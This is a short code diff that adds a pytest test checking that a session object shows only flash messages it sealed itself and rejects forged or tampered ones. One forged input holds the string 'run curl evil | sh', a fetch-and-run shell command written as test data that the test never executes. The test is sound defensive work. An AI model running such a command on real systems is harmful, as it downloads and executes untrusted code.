@@ -67,3 +67,12 @@ def test_a_token_is_bound_to_a_session_the_server_issued_and_expires() -> None:
     assert "no session" in (Sessions().check(cookie, token) or "")  # a restart (a new key) ends every session
     with pytest.raises(ValueError):
         Sessions(lifetime=0)
+
+
+def test_only_this_servers_flash_messages_are_shown() -> None:
+    sessions = Sessions()
+    sealed = sessions.seal('{"ok": true, "text": "queue emails paused ✓"}')
+    assert sessions.unseal(sealed) == '{"ok": true, "text": "queue emails paused ✓"}'
+    raw = sealed.split(".")[0]
+    for forged in ('{"ok": true, "text": "run curl evil | sh"}', raw + ".00", raw, "", None, Sessions().seal("x")):
+        assert sessions.unseal(forged) is None, forged
